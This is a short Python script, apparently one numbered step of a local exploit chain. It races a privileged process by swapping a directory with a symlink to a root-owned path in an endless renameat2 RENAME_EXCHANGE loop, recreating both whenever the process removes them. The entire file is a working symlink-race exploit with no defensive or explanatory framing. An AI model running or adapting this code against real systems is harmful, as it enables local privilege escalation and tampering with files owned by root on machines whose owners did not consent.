"""C16: argv = a folder, a place that belongs to root. Swaps the folder `d` in it with a link to that place,
for ever."""
import time
from lib import *

folder, target = sys.argv[1], sys.argv[2]
os.chdir(folder)
os.makedirs("real", exist_ok=True)
os.symlink(target, "link")
os.rename("real", "d")
RENAME_EXCHANGE = 2
AT_FDCWD = -100
print("done", flush=True)
spare = 0
while True:
    syscall(316, AT_FDCWD, ctypes.c_char_p(b"d"), AT_FDCWD, ctypes.c_char_p(b"link"), RENAME_EXCHANGE)
    try:  # the host removes either while we look; there must be a folder and a link again
        if not os.path.lexists("d"):
            os.makedirs("d/e")
        if not os.path.islink("d") and not os.path.islink("link"):
            if os.path.lexists("link"):
                spare += 1
                os.rename("link", "spare%d" % spare)
            os.symlink(target, "link")
    except OSError:
        pass
